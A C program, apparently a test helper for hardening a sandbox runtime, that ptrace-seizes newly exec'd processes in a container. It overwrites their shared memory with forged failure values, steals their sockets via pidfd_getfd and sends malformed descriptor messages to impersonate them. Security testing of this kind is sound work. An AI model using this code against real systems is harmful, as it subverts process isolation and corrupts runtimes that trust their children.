/* The first process of a container with CAP_SYS_PTRACE, which takes the program of an exec over as
   early as it can, and speaks for it: it writes what it likes into the memory that the program
   shares with its runtime, and over the socket that they have.  "usurper PID" says each time that
   the program is PID; with another word behind it, it kills the program then.  A line for each that
   was taken: "taken PAGES", the pages of shared memory that it had.  */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum
{
  PAGE = 4096,
  WINDOW = 4,
  FAILED = 4,
  DESCRIPTORS = 64
};

static int read_link (pid_t pid, const char *name, char text[256])
{
  char path[300];

  snprintf (path, sizeof path, "/proc/%d/%s", (int)pid, name);
  ssize_t length = readlink (path, text, 255);
  text[length < 0 ? 0 : length] = 0;
  return length < 0 ? -1 : 0;
}

/* A failure that no runtime knows, and the number beside it; and the number where it would be if it
   had the last page for itself.  Returns the pages that there were.  */
static int overwrite (pid_t pid, uint32_t victim)
{
  const uint32_t said[] = { FAILED, victim, 0x7fffffff, 0x7fffffff };
  char path[64], line[512], kind[8];
  unsigned long start, end;
  int pages = 0;

  snprintf (path, sizeof path, "/proc/%d/mem", (int)pid);
  int memory = open (path, O_RDWR | O_CLOEXEC);
  snprintf (path, sizeof path, "/proc/%d/maps", (int)pid);
  FILE *maps = fopen (path, "re");
  while (maps != NULL && memory >= 0 && fgets (line, sizeof line, maps) != NULL)
    {
      if (sscanf (line, "%lx-%lx %7s", &start, &end, kind) != 3 || strcmp (kind, "rw-s") != 0)
        continue;
      if (pwrite (memory, said, sizeof said, (off_t)start) == sizeof said)
        pages += (int)((end - start) / PAGE);
      if (end - start > PAGE)
        (void)!pwrite (memory, &victim, sizeof victim, (off_t)(end - PAGE));
    }
  if (maps != NULL)
    fclose (maps);
  if (memory >= 0)
    close (memory);
  return pages;
}

/* One descriptor where two are expected, then three, and bytes as if the sandbox stood again.  */
static void send_some (int socket)
{
  union
  {
    char bytes[CMSG_SPACE (3 * sizeof (int))];
    struct cmsghdr align;
  } control;
  const int fds[] = { 0, 0, 0 };

  for (size_t count = 1; count <= 3; count++)
    {
      struct iovec part = { .iov_base = "", .iov_len = 1 };
      struct msghdr message = { .msg_iov = &part,
                                .msg_iovlen = 1,
                                .msg_control = control.bytes,
                                .msg_controllen = CMSG_SPACE (count * sizeof (int)) };
      memset (&control, 0, sizeof control);
      struct cmsghdr *header = CMSG_FIRSTHDR (&message);
      header->cmsg_level = SOL_SOCKET;
      header->cmsg_type = SCM_RIGHTS;
      header->cmsg_len = CMSG_LEN (count * sizeof (int));
      memcpy (CMSG_DATA (header), fds, count * sizeof (int));
      (void)sendmsg (socket, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
    }
  (void)send (socket, "bytes", 5, MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* And keeps it open for as long as it lives, as if the start never ended.  */
static void take_sockets (pid_t pid)
{
  char name[32], target[256];
  int pidfd = (int)syscall (SYS_pidfd_open, pid, 0);

  for (int fd = 0; fd < DESCRIPTORS && pidfd >= 0; fd++)
    {
      snprintf (name, sizeof name, "fd/%d", fd);
      if (read_link (pid, name, target) < 0 || strncmp (target, "socket:", 7) != 0)
        continue;
      int taken = (int)syscall (SYS_pidfd_getfd, pidfd, fd, 0);
      if (taken >= 0)
        send_some (taken);
    }
  if (pidfd >= 0)
    close (pidfd);
}

static void usurp (pid_t pid, uint32_t victim, int kills)
{
  char exe[256];
  int status;

  if (ptrace (PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid (pid, &status, __WALL) < 0
      || !WIFSTOPPED (status))
    return;
  if (read_link (pid, "exe", exe) < 0 || strncmp (exe, "/memfd:", 7) == 0)
    {
      int pages = overwrite (pid, victim);
      take_sockets (pid);
      printf ("taken %d\n", pages);
      if (kills) /* So that it says nothing else.  */
        kill (pid, SIGKILL);
    }
  ptrace (PTRACE_DETACH, pid, 0, 0);
}

/* The last field of /proc/loadavg: the number that was given out last.  */
static pid_t last_pid (int loadavg)
{
  char text[128];
  ssize_t length = pread (loadavg, text, sizeof text - 1, 0);

  text[length < 0 ? 0 : length] = 0;
  const char *at = strrchr (text, ' ');
  return at == NULL ? 1 : (pid_t)atoi (at);
}

int main (int argc, char **argv)
{
  static unsigned char is_done[1 << 22];
  int loadavg = open ("/proc/loadavg", O_RDONLY | O_CLOEXEC);
  uint32_t victim = argc > 1 ? (uint32_t)atoi (argv[1]) : 0;
  int kills = argc > 2;

  setvbuf (stdout, NULL, _IOLBF, 0);
  printf ("ready\n");
  for (;;)
    {
      /* A process that is traced is not gone until its tracer has seen that.  */
      while (waitpid (-1, NULL, WNOHANG | __WALL) > 0)
        ;
      pid_t last = last_pid (loadavg);
      for (pid_t pid = last > WINDOW ? last - WINDOW : 2; pid <= last + 1; pid++)
        if (!is_done[pid] && ptrace (PTRACE_SEIZE, pid, 0, 0) == 0)
          {
            is_done[pid] = 1;
            usurp (pid, victim, kills);
          }
    }
}
